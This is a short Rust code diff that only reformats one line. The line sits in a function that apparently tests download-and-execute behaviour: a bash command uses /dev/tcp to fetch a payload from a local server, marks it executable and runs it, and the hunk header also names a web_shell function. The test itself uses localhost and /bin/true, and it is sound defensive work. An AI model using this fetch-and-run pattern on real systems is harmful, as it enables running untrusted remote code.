@@ -51,7 +51,8 @@ fn web_shell(folder: &Path) -> Result<()> {
 fn download_and_run(folder: &Path) -> Result<()> {
     let (port, server) = serve(fs::read("/bin/true")?)?;
     let payload = folder.join("payload");
-    let fetch = format!("exec 3<>/dev/tcp/127.0.0.1/{port}; cat <&3 >'{0}'; chmod 755 '{0}'; '{0}'; :", payload.display());
+    let fetch =
+        format!("exec 3<>/dev/tcp/127.0.0.1/{port}; cat <&3 >'{0}'; chmod 755 '{0}'; '{0}'; :", payload.display());
     succeed(Command::new("bash").args(["-c", &fetch]))?;
     joined(server)
 }
